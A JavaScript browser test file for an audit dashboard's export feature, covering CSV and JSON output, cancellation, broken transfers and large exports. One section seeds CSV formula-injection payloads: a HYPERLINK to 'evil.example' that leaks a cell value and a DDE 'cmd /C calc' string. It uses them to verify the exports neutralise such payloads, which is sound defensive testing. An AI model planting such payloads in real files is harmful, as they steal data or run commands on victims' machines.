// Exports of the audit page: what is in the files, that they can be cancelled, and that what broke off leaves none.
import assert from "node:assert/strict";
import { readFile } from "node:fs/promises";
import { after, before, describe, it } from "node:test";
import { dashboard, PHONE } from "./fixture.mjs";
import { gateTo } from "./gate.mjs";

/**
 * Has the browser write into its own files, as it would into those that one chooses: nobody is there to choose. With
 * `none` it is a browser that cannot.
 */
async function choosing(page, { none = false } = {}) {
  await page.evaluate((none) => {
    if (none) return void delete globalThis.showSaveFilePicker;
    globalThis.showSaveFilePicker = async ({ suggestedName }) => {
      const folder = await navigator.storage.getDirectory();
      return await folder.getFileHandle(suggestedName, { create: true });
    };
  }, none);
}

const files = (page) =>
  page.evaluate(async () => {
    const found = {};
    for await (const [name, handle] of (await navigator.storage.getDirectory()).entries())
      found[name] = await (await handle.getFile()).text();
    return found;
  });

async function opened(fixture, page) {
  await page.locator("tr[data-entry]").first().waitFor();
  await page.getByRole("button", { name: "Export", exact: true }).click();
  const dialog = page.getByRole("dialog");
  return {
    dialog,
    choose: (name) => dialog.getByLabel(name).check(),
    start: () => dialog.getByRole("button", { name: "Export", exact: true }).click(),
    says: (text) => dialog.getByText(text).first().waitFor({ timeout: 60_000 }),
    axe: () => fixture.accessible(page),
  };
}

const SERVERS = /The server's own export/;
const SHOWN = /Everything shown/;

for (const dialect of ["sdk", "adapter"]) {
  describe(`exports, ${dialect} dialect`, () => {
    const fixture = dashboard({ dialect, server: ["--showcase", "--showcase-rows", "3000"] });
    let gate;
    before(async () => {
      gate = await gateTo(fixture.baseUrl);
      // What is hard to write down.
      const [agent] = await fixture.kavach.agents.list({ status: "active" });
      const args = { text: 'a "quoted", word\r\nand a line', more: "ünï" };
      await fixture.kavach.authorize(agent.id, { action: "a,b", resource: 'x:"y"', arguments: args });
    });
    after(() => gate.close());
    const throughGate = async (path) => {
      const page = await fixture.open(path, { connect: false });
      await page.locator('input[name="server"]').fill(gate.baseUrl);
      fixture.opened.get(page).strangers.length = 0;
      await fixture.connect(page);
      return page;
    };
    const close = async (page) => {
      fixture.opened.get(page).strangers.length = 0; // The gate is another host.
      await fixture.close(page);
    };

    it("saves what the server writes, byte for byte, and follows the range of time", async () => {
      const all = await fixture.kavach.audit.query();
      const range = { since: all[2000].timestamp, until: all[300].timestamp };
      const page = await fixture.open(`/audit?since=${range.since}&until=${range.until}&result=denied`);
      await choosing(page);
      const { choose, start, says, axe } = await opened(fixture, page);
      await says("It follows the range of time, not the other filters.");
      await choose(SERVERS);
      for (const [label, format] of [
        ["CSV", "csv"],
        ["JSON", "json"],
      ]) {
        await choose(label);
        await start();
        const expected = await fixture.kavach.audit.export({ format, ...range });
        const rows = (await fixture.kavach.audit.query(range)).length;
        await says(`${rows.toLocaleString("en")} rows,`);
        await page.waitForFunction((end) => document.querySelector("dialog strong")?.textContent.endsWith(end), format);
        const [, text] = Object.entries(await files(page)).find(([name]) => name.endsWith(`.${format}`));
        assert.equal(text, expected);
      }
      await axe();
      await fixture.close(page);
    });

    it("downloads it whole where files cannot be written bit by bit", async () => {
      const page = await fixture.open("/audit", { viewport: PHONE });
      await choosing(page, { none: true });
      const { choose, start, says, axe } = await opened(fixture, page);
      await says("held in memory until it is whole");
      await choose("JSON");
      await fixture.fits(page);
      await axe();
      const [download] = await Promise.all([page.waitForEvent("download"), start()]);
      assert.match(download.suggestedFilename(), /^audit-[\dT-]+\.json$/);
      const text = await readFile(await download.path(), "utf8");
      assert.equal(text, await fixture.kavach.audit.export({ format: "json" }));
      await fixture.close(page);
    });

    it("exports all that is shown, with all filters, in forms that can be read back", async () => {
      const filters = { result: "denied" };
      const entries = await fixture.kavach.audit.query(filters);
      const page = await fixture.open("/audit?result=denied");
      await choosing(page);
      const { choose, start, says } = await opened(fixture, page);
      await start();
      await says(`${entries.length} rows,`);
      await choose("JSON, one entry on each line");
      await start();
      await page.waitForFunction(() => document.querySelector("dialog strong")?.textContent.endsWith("jsonl"));
      const found = Object.entries(await files(page));
      const textOf = (extension) => found.find(([name]) => name.endsWith(extension))[1];
      const lines = textOf(".jsonl").trimEnd().split("\n").map(JSON.parse);
      assert.deepEqual(lines, entries);
      const [head, ...rows] = parseCsv(textOf(".csv"));
      const read = rows.map((row) => Object.fromEntries(head.map((name, index) => [name, row[index]])));
      const asText = (value) => (value === undefined || value === null ? "" : String(value));
      assert.deepEqual(
        read,
        entries.map((entry) =>
          Object.fromEntries(
            head.map((name) => [name, name === "parameters" ? JSON.stringify(entry.parameters) : asText(entry[name])]),
          ),
        ),
      );
      assert.ok(entries.some(({ parameters }) => parameters.text?.includes("\r\n")));
      await fixture.close(page);
    });

    it("stops the transfer when it is cancelled, and leaves no file", async () => {
      const page = await throughGate("/audit");
      await choosing(page);
      const { dialog, choose, start, says } = await opened(fixture, page);
      await choose(SERVERS);
      await choose("JSON");
      gate.hold("/audit/export", 200_000);
      await start();
      await page.waitForFunction(() => /[1-9]\d* rows, [1-9]/.test(document.querySelector("dialog").textContent));
      const gone = gate.left();
      await dialog.getByRole("button", { name: "Cancel the export" }).click();
      await says(/Cancelled after [\d,]+ rows\. No file was kept\./);
      for (let turn = 0; gate.left() === gone && turn < 100; turn++)
        await new Promise((resolve) => setTimeout(resolve, 50));
      assert.equal(gate.left(), gone + 1);
      assert.deepEqual(await files(page), {});
      gate.release();
      await close(page);
    });

    it("says that a transfer broke off, leaves no file, and tries again", async () => {
      const page = await throughGate("/audit");
      await choosing(page);
      const { dialog, choose, start, says, axe } = await opened(fixture, page);
      await choose(SERVERS);
      await choose("CSV");
      gate.hold("/audit/export", 100_000);
      await start();
      await page.waitForFunction(() => /[1-9]\d* rows, [1-9]/.test(document.querySelector("dialog").textContent));
      gate.cut();
      await says(/The export broke off after [\d,]+ rows, and no file was kept/);
      await axe();
      assert.deepEqual(await files(page), {});
      await dialog.getByRole("button", { name: "Try again" }).click();
      const rows = (await fixture.kavach.audit.query()).length;
      await says(`${rows.toLocaleString("en")} rows,`);
      const [text] = Object.values(await files(page));
      assert.equal(text, await fixture.kavach.audit.export({ format: "csv" }));
      await close(page);
    });

    it("does not overwrite a file with half an export", async () => {
      const page = await throughGate("/audit");
      await page.evaluate(async () => {
        const folder = await navigator.storage.getDirectory();
        const handle = await folder.getFileHandle("mine.csv", { create: true });
        const file = await handle.createWritable();
        await file.write("what was there");
        await file.close();
        globalThis.showSaveFilePicker = async () => handle;
      });
      const { choose, start, says } = await opened(fixture, page);
      await choose(SHOWN);
      gate.hold("/audit", 10_000);
      await start();
      await new Promise((resolve) => setTimeout(resolve, 500));
      gate.cut();
      // What is asked for again is cut again.
      gate.hold("/audit", 10_000);
      const cutting = setInterval(() => {
        gate.cut();
        gate.hold("/audit", 10_000);
      }, 200);
      await says(/The export (broke off|could not be made)/).finally(() => clearInterval(cutting));
      gate.release();
      assert.deepEqual(await files(page), { "mine.csv": "what was there" });
      await close(page);
    });
  });

  describe(`exports of what an agent made up, ${dialect} dialect`, () => {
    const fixture = dashboard({ dialect, server: ["--showcase", "--showcase-rows", "20"] });
    const calls = [
      { action: '=HYPERLINK("http://evil.example/?"&A1,"Sign in")', resource: "mcp:github:repos" },
      { action: "read", resource: "@SUM(1+1)*cmd|' /C calc'!A0" },
      { action: "-2+3", resource: "\t=1+1", arguments: { text: "a;=1+1" } },
    ];
    before(async () => {
      const [agent] = await fixture.kavach.agents.list({ status: "active" });
      for (const call of calls) await fixture.kavach.authorize(agent.id, call);
    });

    it("hold no formula as CSV, and all of it as JSON", async () => {
      const page = await fixture.open("/audit");
      await choosing(page);
      const { dialog, choose, start, says } = await opened(fixture, page);
      const textOf = async (extension) => {
        await page.waitForFunction(
          (end) => document.querySelector("dialog strong")?.textContent.endsWith(end),
          extension,
        );
        return Object.entries(await files(page)).find(([name]) => name.endsWith(`.${extension}`))[1];
      };
      for (const source of [SHOWN, SERVERS]) {
        await choose(source);
        await choose("CSV");
        await says("Text that a spreadsheet would run as a formula begins with an apostrophe.");
        await start();
        await says(`${(await fixture.kavach.audit.query()).length} rows,`);
        const text = await textOf("csv");
        for (const cell of parseCsv(`${text.replaceAll("\r\n", "\n").trimEnd().replaceAll("\n", "\r\n")}\r\n`).flat())
          assert.doesNotMatch(cell, /^["\s]*[=+\-@\t]/);
        for (const beginning of ["'=HYPERLINK(", "'@SUM(", "'-2+3"]) assert.ok(text.includes(beginning), beginning);
        await choose(source === SHOWN ? "JSON, one entry on each line" : "JSON");
        assert.equal(await dialog.getByText("begins with an apostrophe").count(), 0);
        await start();
        const json = await textOf(source === SHOWN ? "jsonl" : "json");
        for (const { action } of calls) assert.ok(json.includes(JSON.stringify(action)), action);
        await page.evaluate(async () => {
          const folder = await navigator.storage.getDirectory();
          for await (const name of folder.keys()) await folder.removeEntry(name);
        });
      }
      await fixture.close(page);
    });
  });

  describe(`exports of more than 10,000 rows, ${dialect} dialect`, () => {
    const fixture = dashboard({ dialect, server: ["--showcase", "--showcase-rows", "12000"] });

    it("says that the server left rows out, and fetches all of them", async () => {
      const page = await fixture.open("/audit");
      await choosing(page);
      const { dialog, choose, start, says, axe } = await opened(fixture, page);
      await choose(SERVERS);
      await choose("JSON");
      await start();
      await says("This is not all. The server ended the export after 10,000 rows");
      await axe();
      await dialog.getByRole("button", { name: "Export everything with the filters" }).click();
      await says("12,000 rows,");
      const [, text] = Object.entries(await files(page)).find(([name]) => name.endsWith(".jsonl"));
      const ids = text
        .trimEnd()
        .split("\n")
        .map((line) => JSON.parse(line).id);
      assert.deepEqual(
        ids,
        (await fixture.kavach.audit.query()).map(({ id }) => id),
      );
      await fixture.close(page);
    });
  });
}

/** CSV as RFC 4180 has it. */
function parseCsv(text) {
  const rows = [];
  let row = [];
  for (const [, quoted, plain, end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)) {
    row.push(quoted === undefined ? plain : quoted.replaceAll('""', '"'));
    if (end === ",") continue;
    rows.push(row);
    row = [];
  }
  return rows;
}
